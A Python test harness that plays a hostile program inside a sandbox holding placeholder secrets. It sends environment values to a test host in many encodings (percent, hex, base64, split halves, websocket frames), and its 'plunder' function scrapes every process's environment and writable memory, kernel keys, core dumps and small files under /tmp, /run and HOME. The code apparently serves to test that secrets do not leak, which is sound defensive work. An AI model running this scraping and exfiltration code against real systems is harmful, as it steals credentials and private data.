"""What a hostile program does with the placeholders that it has instead of secrets: python3 inside_secret.py NAME ARG...

It knows no real value; what it is given, it says as it came, and what counts is what the servers saw. See inside.py.
"""
import base64
import contextlib
import json
import os
import re
import resource
import socket
import ssl
import sys
import threading
import time
import urllib.parse


def form(value, how):
    """A value in one of the forms in which it may be brought out."""
    data = value.encode()
    head, _, more = how.partition(":")
    before, _, after = more.partition("~")
    if head == "percent":
        return "".join(f"%{b:02X}" for b in data)
    if head == "percent-lower":
        return "".join(f"%{b:02x}" for b in data)
    if head == "mixed":
        return "".join(f"%{b:02x}" if i % 3 else chr(b) for i, b in enumerate(data))
    if head == "escaped":
        return "".join(f"\\u00{b:02x}" for b in data)
    if head == "hex":
        return data.hex()
    if head == "quoted":
        return urllib.parse.quote(value, safe=more)
    if head == "base64":        # between what is given: a user's name with its colon, or nothing
        return base64.b64encode(before.encode() + data + after.encode()).decode()
    if head == "first":
        return value[:len(value) // 2]
    if head == "second":
        return value[len(value) // 2:]
    return value


def fill(text):
    """{{NAME}} and {{NAME|form}} are a variable's value; {{#}} is the number of bytes behind the head."""
    text = re.sub(r"\{\{(\w+)(?:\|([^}]*))?\}\}", lambda m: form(os.environ.get(m[1], ""), m[2] or ""), text)
    head, blank, body = text.partition("\r\n\r\n")
    return (head.replace("{{#}}", str(len(body))) + blank + body).encode("latin-1")


CONTEXT = ssl.create_default_context()
CONTEXT.set_alpn_protocols(["http/1.1"])


class Stream:
    def __init__(self, host, port, tls):
        self.s = socket.create_connection((host, port), 10)
        self.s.settimeout(20)
        if tls:
            self.s = CONTEXT.wrap_socket(self.s, server_hostname=host)
        self.data = b""

    def more(self):
        got = self.s.recv(65536)
        self.data += got
        return len(got) > 0

    def take(self, n):
        while len(self.data) < n and self.more():
            pass
        got, self.data = self.data[:n], self.data[n:]
        return got

    def line(self, end=b"\r\n"):
        while end not in self.data and self.more():
            pass
        got, _, self.data = self.data.partition(end)
        return got

    def response(self, head_only, out, tell=None):
        """Its heads, interim ones too, its content and what stands behind that, into out as it comes."""
        while True:
            head = self.line(b"\r\n\r\n")
            out["head"] += head.decode("latin-1") + "\r\n\r\n"
            words = head.split()
            if len(words) < 2:
                out["end"] = "eof"
                return
            out["status"] = int(words[1])
            if out["status"] >= 200 or out["status"] == 101:
                break
        fields = {n.strip().lower(): v.strip() for n, _, v in (x.partition(b":") for x in head.split(b"\r\n")[1:])}
        if head_only or out["status"] in (101, 204, 304):
            return

        def got(data):
            out["body"] += data
            if tell:
                print("piece", tell, len(out["body"]), flush=True)
        if b"chunked" in fields.get(b"transfer-encoding", b""):
            while n := int(self.line().partition(b";")[0] or b"0", 16):
                got(self.take(n))
                self.take(2)
            while line := self.line():
                out["head"] += line.decode("latin-1") + "\r\n"
        elif b"content-length" in fields:
            left = int(fields[b"content-length"])
            while left and (data := self.take(1) + self.data[:left - 1]):
                self.data = self.data[len(data) - 1:]
                left -= len(data)
                got(data)
            if left:
                out["end"] = "short"
        else:
            while self.more():
                pass
            got(self.take(len(self.data)))


KEPT = {}


def attempt(row, s, out):
    for i, part in enumerate(row["parts"]):
        if i:
            time.sleep(0.02)
        s.s.sendall(fill(part) if i == 0 else fill("\r\n\r\n" + part)[4:])
        if row.get("cautious") and i == 0:     # the content only after a 100
            while b"\r\n\r\n" not in s.data and s.more():
                pass
            if not s.data.split()[1:2] == [b"100"]:
                break
    s.response(row["parts"][0].startswith("HEAD "), out, row["name"] if row.get("tell") else None)
    if out["status"] == 101:
        websocket(s, row, out)


def one(row):
    """Says what came back: status 0 is nothing, and "end" how it ended when not by itself. Rows of one "keep" share a connection; with
    "again" one that has been closed meanwhile is made anew."""
    kept = row.get("keep")
    for once_more in (row.get("again"), False):
        out = {"name": row["name"], "status": 0, "head": "", "body": b""}
        had = KEPT.get(kept)
        try:
            s = had or Stream(row.get("host", "ok.test"), row.get("port", 443), row.get("port", 443) == 443)
            if kept:
                KEPT[kept] = s
            attempt(row, s, out)
            if not kept:
                s.s.close()
        except TimeoutError:
            out["end"] = "late"
        except (OSError, ValueError) as e:
            out["end"] = f"{type(e).__name__} {getattr(e, 'errno', 0)}"
        if "end" in out or "\r\nconnection: close" in out["head"].lower():
            KEPT.pop(kept, None)
        if not (had and once_more and out["status"] == 0):
            break
    out["body"] = base64.b64encode(out["body"]).decode()
    print("row", json.dumps(out), flush=True)


def websocket(s, row, out):
    """Sends a text, if there is one, and takes what comes until it is closed or as much as was asked for came."""
    data = fill("\r\n\r\n" + row.get("frame", ""))[4:]
    if data:
        s.s.sendall(bytes([0x81, 0x80 | len(data)]) + b"\1\2\3\4" + bytes(b ^ (1, 2, 3, 4)[i % 4] for i, b in enumerate(data)))
    while len(s.data) < row.get("frames", 1) and s.more():
        pass
    out["body"] = s.data


def rows(path):
    """A JSON list of what to do in turn: {"wait": NAME} says so and waits for a line; {"aside": ROW} goes on beside what follows."""
    print("env", json.dumps(dict(os.environ)), flush=True)
    beside = []
    with open(path, encoding="ascii") as f:
        todo = json.load(f)
    for row in todo:
        if "wait" in row:
            print("waits", row["wait"], flush=True)
            sys.stdin.readline()
        elif "aside" in row:
            beside.append(threading.Thread(target=one, args=(row["aside"],)))
            beside[-1].start()
        else:
            one(row)
    for t in beside:
        t.join()
    print("end", flush=True)


def readable(pid):
    """Everything of a process that can be read, in one piece, but for what is mapped from a file as it stands there."""
    out = b""
    for name in ("environ", "cmdline", "auxv"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as f:
            out += f.read() + b"\n"
    with contextlib.suppress(OSError), open(f"/proc/{pid}/maps", encoding="ascii", errors="replace") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            first, end = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and "[v" not in line:
                with contextlib.suppress(OSError, OverflowError, ValueError):
                    mem.seek(first)
                    while first < end and (data := mem.read(min(1 << 20, end - first))):
                        out += data
                        first += len(data)
    return out


def plunder():
    """All that a program can find around it, into a file of the workspace: environments, memory, a core, files that are new."""
    print("env", json.dumps(dict(os.environ)), flush=True)
    pids = sorted(int(d) for d in os.listdir("/proc") if d.isdigit())
    with open("plunder", "wb") as f:
        for pid in pids:
            data = readable(pid)
            f.write(data)
            print("process", pid, len(data), flush=True)
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    pid = os.fork()
    if not pid:
        os.abort()
    print("core", os.waitpid(pid, 0)[1], resource.getrlimit(resource.RLIMIT_CORE)[0], flush=True)
    with open("listing", "w", encoding="utf-8", errors="surrogateescape") as f:
        for name in ("/proc/keys", "/proc/key-users", "/proc/mounts", "/proc/1/status", "/proc/1/mountinfo"):
            with contextlib.suppress(OSError), open(name, encoding="utf-8", errors="surrogateescape") as g:
                f.write(g.read())
        for folder in ("/run", "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/nowhere"), "/proc/self/fd", "/proc/1/fd"):
            for base, dirs, files in os.walk(folder):
                for name in dirs + files:
                    path = os.path.join(base, name)
                    f.write(path + "\n")
                    with contextlib.suppress(OSError):
                        f.write(os.readlink(path) + "\n")
                    with contextlib.suppress(OSError, UnicodeError):
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                            with open(path, encoding="utf-8", errors="surrogateescape") as g:
                                f.write(g.read())
    print("end", flush=True)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
